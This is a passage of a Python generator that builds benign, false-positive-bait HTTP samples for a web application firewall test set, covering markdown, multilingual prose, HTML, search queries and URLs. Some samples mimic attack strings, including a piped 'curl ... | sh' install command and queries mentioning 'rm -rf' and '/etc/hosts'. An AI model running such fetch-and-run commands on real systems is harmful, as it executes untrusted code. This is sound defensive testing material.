    ),
    ("- [x] write tests\n- [ ] update docs\n- [ ] drop the legacy `v1` endpoints after 2027-01-01\n", False),
    (
        "```js\nconst el = document.createElement('div');\nel.textContent = userInput; // safe: no innerHTML\nlist.appendChild(el);\n```\n",
        True,
    ),
    (
        "Meeting notes — **Dec 4**\n\n* Budget approved\n* Hiring: 2 backend, 1 design\n* Next sync: Thursday 10:00 CET\n",
        False,
    ),
    (
        "<details>\n<summary>Stack trace</summary>\n\n```\nTraceback (most recent call last):\n  File \"app.py\", line 12, in <module>\nKeyError: 'user'\n```\n</details>\n",
        True,
    ),
    ("Footnotes are supported[^1].\n\n[^1]: Like this one.\n", False),
    ("```php\n<?php\n$name = $_GET['name'] ?? 'world';\necho 'Hello, ' . htmlspecialchars($name);\n```\n", True),
    (
        "Run `curl -fsSL https://get.example.com/install.sh | sh` only if you trust the source; otherwise download and inspect it first.\n",
        True,
    ),
    ("Math: $E = mc^2$ and $$\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}$$\n", False),
]


@gen
def gen_benign_markdown():
    cat = "benign_markdown"
    for i in range(75):
        md, hard = MARKDOWN[i % len(MARKDOWN)]
        mode = i % 4
        if mode in (0, 1):
            benign(
                cat,
                "json",
                md,
                hard,
                path=pick(["/api/v1/issues/%d/comments" % R.randrange(1, 999), "/api/wiki/pages", "/api/posts/draft"]),
                obj={"body": MARK, "format": "markdown"},
                kind="browser",
            )
        elif mode == 2:
            benign(
                cat,
                "form",
                md,
                hard,
                path="/notes/save",
                name="content",
                others=[("note_id", str(R.randrange(1, 9999)))],
                kind="browser",
            )
        else:
            benign(
                cat,
                "multipart",
                md,
                hard,
                path="/api/docs/import",
                name="file",
                mp_as_file=True,
                filename=pick(["README.md", "notes.md", "CHANGELOG.md"]),
                fctype="text/markdown",
            )


PROSE = [
    ("The quarterly review went well; the team shipped three features and closed forty bugs.", False),
    ("Could you send me the updated contract by Friday? Thanks in advance.", False),
    ("Please select the union representative before the meeting, and drop me a note with the name.", True),
    ("I've been trying to update my billing address for two days -- nothing works. Help!", True),
    ("Our script for the school play needs one more scene; the director wants it by Monday.", True),
    ("Where can I find the terms and conditions? The link in the footer returns an error.", False),
    ("Le rendez-vous est confirmé pour jeudi à 14 h ; n'oubliez pas vos documents d'identité.", True),
    ("Wir freuen uns auf Ihren Besuch. Bitte melden Sie sich am Empfang im 3. OG.", False),
    ("¿Podrías enviarme la factura del mes pasado? No la encuentro en mi correo.", False),
    ("配送状況を確認したいのですが、追跡番号が見つかりません。", False),
    ("请问这个产品支持国际运输吗？我在加拿大。", False),
    ("Здравствуйте! Подскажите, пожалуйста, когда будет следующая поставка?", False),
    ("مرحبا، أود تغيير موعد التسليم إلى يوم السبت إن أمكن.", False),
    ("Olá! O pedido chegou com a caixa danificada, mas o produto está ok.", False),
    ("Ciao, vorrei sapere se è possibile ritirare l'ordine in negozio.", True),
    ("Dzień dobry, czy mogę zmienić rozmiar zamówionej kurtki?", False),
    ("Merhaba, siparişimi iptal etmek istiyorum; ödeme iadesi ne kadar sürer?", True),
    ("안녕하세요, 주문한 상품이 아직 도착하지 않았습니다.", False),
    ("नमस्ते, मेरा रिफंड कब तक आएगा?", False),
    ("Either way, the results were 1 = 1.5 times better or worse depending on the sample; see table 2.", True),
    ("She said: \"It's not about where you start, it's about where you end up.\"", True),
    ("Hi Bob -- re: your question on the exec summary: yes, we'll include the alert thresholds.", True),
    ("Cat owners: the new grooming kit ships with a free brush & comb set (while supplies last).", True),
    ("Tip: if the page doesn't load, clear your cache or try another browser.", True),
    ("Het pakket is bezorgd bij de buren op nummer 12.", False),
    ("Hej! Tack för snabb leverans, allt var i perfekt skick.", False),
]


@gen
def gen_benign_prose():
    cat = "benign_prose"
    for i in range(76):
        text, hard = PROSE[i % len(PROSE)]
        mode = i % 4
        if mode == 0:
            benign(
                cat,
                "json",
                text,
                hard,
                path=pick(["/api/support/messages", "/api/chat/send", "/api/reviews"]),
                obj={"message": MARK, "channel": pick(["web", "app"]), "locale": pick(["en", "fr", "de", "es", "ja"])},
                kind="browser",
            )
        elif mode == 1:
            benign(
                cat,
                "form",
                text,
                hard,
                path="/contact",
                name="message",
                others=[("name", " ".join(person())), ("topic", "general")],
                kind="browser",
            )
        elif mode == 2:
            benign(
                cat,
                "json",
                text,
                hard,
                path="/api/v1/posts/%d/comments" % R.randrange(1, 9999),
                obj={"comment": {"text": MARK, "parentId": None}},
                kind="client",
            )
        else:
            benign(
                cat,
                "multipart",
                text,
                hard,
                path="/feedback",
                name="feedback",
                others=[("rating", str(R.randrange(1, 6)))],
                kind="browser",
            )


RICH = [
    ("<p>Welcome to our <strong>winter sale</strong>! Use code <code>SNOW25</code> at checkout.</p>", False),
    (
        "<h2>Opening hours</h2><table><thead><tr><th>Day</th><th>Hours</th></tr></thead><tbody><tr><td>Mon&ndash;Fri</td><td>9&ndash;18</td></tr><tr><td>Sat</td><td>10&ndash;14</td></tr></tbody></table>",
        False,
    ),
    (
        '<p>Read the <a href="https://docs.example.com/guide?section=install&amp;lang=en" target="_blank" rel="noopener noreferrer">installation guide</a> first.</p>',
        False,
    ),
    (
        '<figure><img src="https://cdn.example.com/uploads/2026/12/team.jpg" alt="Our team at the summit" width="800" height="450" loading="lazy"><figcaption>Summit 2026</figcaption></figure>',
        False,
    ),
    ("<ul><li>Free shipping over &euro;50</li><li>30-day returns</li><li>2-year warranty</li></ul>", False),
    (
        '<p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315" frameborder="0" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen></iframe></p>',
        True,
    ),
    (
        "<blockquote><p>&ldquo;Simplicity is prerequisite for reliability.&rdquo;</p><cite>Edsger W. Dijkstra</cite></blockquote>",
        False,
    ),
    (
        '<p style="text-align: center;"><span style="color: #e03e2d; font-size: 18px;">Limited time offer</span></p>',
        False,
    ),
    (
        '<ol start="3"><li>Select <em>Settings</em></li><li>Click <strong>Delete account</strong></li><li>Confirm</li></ol>',
        False,
    ),
    ('<pre><code class="language-sql">SELECT * FROM products WHERE price &lt; 20;</code></pre>', True),
    (
        '<p>Contact us at <a href="mailto:support@example.com?subject=Order%20question">support@example.com</a>.</p>',
        False,
    ),
    ('<div class="callout callout-info"><p><b>Note:</b> maintenance on Sunday 02:00&ndash;04:00 UTC.</p></div>', False),
    ("<p>H<sub>2</sub>O and E = mc<sup>2</sup></p><hr><p>Footnote text.</p>", False),
    (
        '<p><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt=""> spacer</p>',
        True,
    ),
    (
        '<video controls width="640" poster="https://cdn.example.com/poster.jpg"><source src="https://cdn.example.com/intro.mp4" type="video/mp4">Your browser does not support video.</video>',
        True,
    ),
    ("<p>Rock &amp; roll, 5 &lt; 7, and &quot;quotes&quot; &mdash; all escaped properly.</p>", False),
    ('<h3 id="faq">FAQ</h3><dl><dt>Can I cancel?</dt><dd>Yes, anytime.</dd></dl>', False),
    (
        '<p><a href="/products/cat-food?size=5kg#reviews">See reviews</a> or <a href="../faq.html">read the FAQ</a>.</p>',
        True,
    ),
]


@gen
def gen_benign_richtext():
    cat = "benign_richtext"
    for i in range(75):
        html, hard = RICH[i % len(RICH)]
        mode = i % 3
        if mode == 0:
            benign(
                cat,
                "json",
                html,
                hard,
                path=pick(
                    ["/wp-json/wp/v2/posts", "/api/cms/pages/%d" % R.randrange(1, 500), "/api/newsletters/draft"]
                ),
                obj={
                    "title": pick(["Winter update", "About us", "Shipping info", "FAQ"]),
                    "content": MARK,
                    "status": pick(["draft", "publish"]),
                },
                kind="browser",
            )
        elif mode == 1:
            benign(
                cat,
                "form",
                html,
                hard,
                path=pick(["/admin/pages/edit", "/wp-admin/post.php"]),
                name=pick(["content", "body_html"]),
                others=[("post_ID", str(R.randrange(1, 9999))), ("action", "editpost")],
                kind="browser",
            )
        else:
            benign(
                cat,
                "multipart",
                html,
                hard,
                path="/admin/products/save",
                name="description_html",
                others=[
                    ("title", pick(["Cat food 5kg", "Winter jacket", "USB-C cable 2m"])),
                    ("price", "%.2f" % R.uniform(3, 200)),
                ],
                kind="browser",
            )


SEARCHES = [
    ("running shoes", False),
    ("wireless headphones noise cancelling", False),
    ("birthday cake recipe", False),
    ("cheap flights to lisbon", False),
    ("best pizza near me", False),
    ("usb-c charger 65w", False),
    ("select a union rep", True),
    ("drop shipping rates", True),
    ("cat food", True),
    ("union square hotels", True),
    ("how to use SELECT DISTINCT", True),
    ("script for wedding speech", True),
    ("delete from cart not working", True),
    ("rm -rf meaning", True),
    ("where 1 = 1 sql why", True),
    ("O'Reilly books", True),
    ("AT&T prepaid plans", True),
    ("c++ vs c#", False),
    ("50% off sale", False),
    ('1/2" copper pipe', True),
    ("ping pong table", False),
    ("exec summary template", False),
    ("alert sound iphone", False),
    ("table tennis or badminton", False),
    ("<3 emoji meaning", True),
    ("cat /etc/hosts windows equivalent", True),
    ("java.lang.NullPointerException fix", True),
    ("order by date", True),
    ("document.cookie explained", True),
    ("sleep(5) python", True),
    ("Zürich Hauptbahnhof Öffnungszeiten", False),
    ("東京 ラーメン おすすめ", False),
    ("café près de moi", False),
    ("winter jacket size L", False),
    ("laptop stand", False),
]


@gen
def gen_benign_search():
    cat = "benign_search"
    for i in range(76):
        q, hard = SEARCHES[i % len(SEARCHES)]
        mode = i % 5
        if mode in (0, 1, 2):
            others = pick(
                [[("page", str(R.randrange(1, 5)))], [("sort", "relevance")], [("category", "all"), ("lang", "en")], []]
            )
            benign(
                cat,
                "query",
                q,
                hard,
                path=pick(["/search", "/api/v1/search", "/s", "/products/search"]),
                name=pick(["q", "query", "keywords"]),
                others=others,
                enc=pick(["strict", "plus"]),
                kind="browser",
            )
        elif mode == 3:
            benign(
                cat,
                "json",
                q,
                hard,
                path="/api/search",
                obj={"query": MARK, "filters": {"inStock": True}, "page": 1, "size": 24},
                kind="browser",
            )
        else:
            benign(cat, "form", q, hard, path="/search", name="q", others=[("submit", "Search")], kind="browser")


URLS = [
    ("https://www.example.org/articles/2026/12/winter-guide?utm_source=newsletter&utm_medium=email", False),
    ("https://app.example.com/dashboard?tab=billing&period=2026-11", False),
    ("https://shop.example.com/products/cat-food?variant=5kg&ref=homepage#reviews", False),
    ("https://maps.example.com/?q=52.5200,13.4050&z=14", False),
    ("https://docs.example.com/api/v2/reference#/orders/createOrder", False),
    ("https://cdn.example.net/assets/img/hero@2x.webp?v=3f9a1c", False),
    (
        "https://accounts.example.com/o/oauth2/v2/auth?client_id=123.apps.example.com&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&scope=openid%20email&response_type=code",
        True,
    ),
    ("https://example.com/search?q=select+a+union+rep&page=2", True),
    ("http://localhost:3000/auth/callback", True),
    ("https://www.example.org/wiki/Special:Search?search=drop+table+tennis", True),
    ("https://files.example.net/shared/Q3%20report%20(final).xlsx?dl=1", False),
    ("mailto:sales@example.com?subject=Quote%20request&body=Hi%2C%20please%20call%20me", False),
    ("https://example.com/redirect?url=https%3A%2F%2Fpartner.example.org%2Flanding%3Fid%3D7", True),
    ("https://user:token@git.example.com/team/repo.git", True),
    ("https://example.com/a/b/../c/./d.html", True),
    ("https://xn--mnchen-3ya.example/stadtplan", False),
    ("https://example.com/path;jsessionid=1A2B3C4D?x=1", False),
    ("tel:+1-555-010-9999", False),
    ("https://calendar.example.com/event?title=Team%20lunch%20%26%20planning&start=2026-12-10T12:00", False),
    ("https://www.example.com/", False),
]


@gen
def gen_benign_urls():
    cat = "benign_urls"
    for i in range(76):
        u, hard = URLS[i % len(URLS)]
        mode = i % 5
        if mode == 0:
            benign(
                cat,
                "query",
                u,
                hard,
                path=pick(["/login", "/auth/continue", "/out"]),
                name=pick(["next", "returnTo", "redirect_uri"]),
                enc="strict",
                kind="browser",
            )
        elif mode == 1:
            benign(cat, "json", u, hard, path="/api/link-preview", obj={"url": MARK}, kind="browser")
        elif mode == 2:
            benign(
                cat,
                "json",
                u,
                hard,
                path=pick(["/api/bookmarks", "/api/v1/webhooks"]),
                obj={"title": pick(["Docs", "Dashboard", "Shop", "Partner"]), "href": MARK, "tags": ["work"]},
                kind="client",
            )
        elif mode == 3:
            benign(
                cat, "form", u, hard, path="/profile/links", name="website", others=[("display", "1")], kind="browser"
            )
        elif not u.startswith("http"):
            benign(
                cat, "json", u, hard, path="/api/contacts/links", obj={"label": "Contact", "uri": MARK}, kind="client"
            )
        else:
            benign(
                cat, "header", u, hard, hname="Referer", path=pick(["/", "/pricing", "/api/v1/track"]), kind="browser"
            )


# === END OF GENERATORS ===


def main():
    for fn in GENERATORS:
        fn()
    here = os.path.dirname(os.path.abspath(__file__))
    out = os.path.join(here, "waf_unseen_fourth.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for row in ROWS:
            f.write(json.dumps(row, ensure_ascii=True) + "\n")
    print("wrote %d rows to %s" % (len(ROWS), out))


if __name__ == "__main__":
    main()
